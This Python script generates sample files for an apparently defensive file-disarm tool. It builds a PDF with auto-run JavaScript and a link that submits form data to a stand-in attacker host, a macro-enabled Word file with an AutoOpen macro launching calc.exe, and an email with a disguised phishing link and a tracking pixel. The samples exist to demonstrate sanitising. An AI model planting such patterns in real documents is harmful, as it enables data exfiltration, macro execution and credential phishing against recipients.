#!/usr/bin/env python3
"""Writes the demonstration samples that show what mugaika does to each format (samples/).

    python3 scripts/make-samples.py [DIR]      (default: samples/)

Everything is written byte for byte reproducibly (fixed dates, ids, boundaries; zip members stored), so the
checked-in files can be compared with a fresh run (tests/e2e/samples_test.cpp). Python's standard library
only: the samples are made by an independent writer, not by mugaika.

  案内.pdf             a PDF with a JavaScript OpenAction, a JavaScript link and an https link annotation
  見積書.docm          a macro-enabled Word document (a VBA project part): rebuilt as 見積書.docx
  お問い合わせ.eml     a mail with a link in its HTML part and a CSV attachment: rebuilt as a text mail
  資料.zip             a zip of a text file, a CSV and a .docm: rebuilt from its disarmed members
"""
import os
import sys
import zipfile
import base64

FIXED = (2026, 12, 1, 9, 0, 0)


def pdf_with_link_and_javascript():
    text = b"BT /F1 18 Tf 72 720 Td (mugaika demo: invoice) Tj ET\n" \
           b"BT /F1 12 Tf 72 690 Td (This PDF opens with JavaScript and carries links.) Tj ET\n" \
           b"BT /F1 12 Tf 72 670 Td (Details: https://www.example.jp/invoice) Tj ET\n"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 8 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R 9 0 R] >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"endstream",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('mugaika demo: JavaScript ran'\\);) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 665 320 680] /Border [0 0 0]"
        b" /A << /S /URI /URI (https://www.example.jp/invoice) >> >>",
        b"<< /Names [(demo) 5 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 715 300 735] /Border [0 0 0]"
        b" /A << /S /JavaScript /JS (this.submitForm\\('https://attacker.example/'\\);) >> >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def zip_of(members):
    """A zip of (name, bytes) members, stored, with fixed dates: the same bytes on every run."""
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=FIXED)
            info.external_attr = 0o644 << 16
            info.create_system = 3
            z.writestr(info, data)
    return buf.getvalue()


def docm():
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        '</Types>')
    package_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="word/document.xml"/>'
        '</Relationships>')
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{w}" xmlns:r="{rel}"><w:body>'
        '<w:p><w:r><w:t>御見積書</w:t></w:r></w:p>'
        '<w:p><w:r><w:t>このファイルにはマクロ(VBA)が含まれています。無害化でマクロを取り除き、.docx として渡します。</w:t></w:r></w:p>'
        '<w:p><w:r><w:t>合計金額: 1,234,000円(税込)</w:t></w:r></w:p>'
        '</w:body></w:document>')
    document_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
        ' Target="vbaProject.bin"/>'
        '</Relationships>')
    # Not a working VBA project: its presence is what makes the document macro-enabled, and what goes.
    vba = b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n"
    return zip_of([
        ("[Content_Types].xml", content_types.encode()),
        ("_rels/.rels", package_rels.encode()),
        ("word/document.xml", document.encode()),
        ("word/_rels/document.xml.rels", document_rels.encode()),
        ("word/vbaProject.bin", vba),
    ])


def mail():
    csv = "品名,数量,単価\r\nコピー用紙,10,480\r\nトナー,2,12800\r\n".encode("utf-8")
    text = ("総務課 御中\r\n\r\n"
            "お世話になっております。見積の明細を添付します。\r\n"
            "詳細は https://www.example.jp/quote をご覧ください。\r\n").encode("utf-8")
    html = ('<html><body><p>総務課 御中</p><p>見積の明細を添付します。'
            '<a href="https://phish.example.net/login">https://www.example.jp/quote</a></p>'
            '<img src="https://tracker.example.net/p.gif" width="1" height="1"></body></html>').encode("utf-8")

    def b64(data):
        s = base64.b64encode(data).decode()
        return "\r\n".join(s[i:i + 76] for i in range(0, len(s), 76))

    subject = "=?UTF-8?B?" + base64.b64encode("お見積りの件".encode()).decode() + "?="
    filename = "=?UTF-8?B?" + base64.b64encode("明細.csv".encode()).decode() + "?="
    lines = [
        "From: Sales <sales@example.co.jp>",
        "To: somu@city.example.lg.jp",
        "Subject: " + subject,
        "Date: Tue, 01 Dec 2026 09:00:00 +0900",
        "Message-ID: <demo-20261201@example.co.jp>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="mugaika-demo-outer"',
        "",
        "--mugaika-demo-outer",
        'Content-Type: multipart/alternative; boundary="mugaika-demo-inner"',
        "",
        "--mugaika-demo-inner",
        "Content-Type: text/plain; charset=UTF-8",
        "Content-Transfer-Encoding: base64",
        "",
        b64(text),
        "--mugaika-demo-inner",
        "Content-Type: text/html; charset=UTF-8",
        "Content-Transfer-Encoding: base64",
        "",
        b64(html),
        "--mugaika-demo-inner--",
        "",
        "--mugaika-demo-outer",
        'Content-Type: text/csv; charset=UTF-8; name="' + filename + '"',
        'Content-Disposition: attachment; filename="' + filename + '"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(csv),
        "--mugaika-demo-outer--",
        "",
    ]
    return "\r\n".join(lines).encode("ascii")


def archive():
    return zip_of([
        ("資料/議事録.txt", "第3回 打合せ議事録\n出席: 総務課、財政課\n".encode("utf-8")),
        ("資料/名簿.csv", "氏名,所属\n山田太郎,総務課\n".encode("utf-8")),
        ("資料/見積書.docm", docm()),
    ])


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "..", "samples")
    os.makedirs(out, exist_ok=True)
    for name, data in [("案内.pdf", pdf_with_link_and_javascript()), ("見積書.docm", docm()),
                       ("お問い合わせ.eml", mail()), ("資料.zip", archive())]:
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
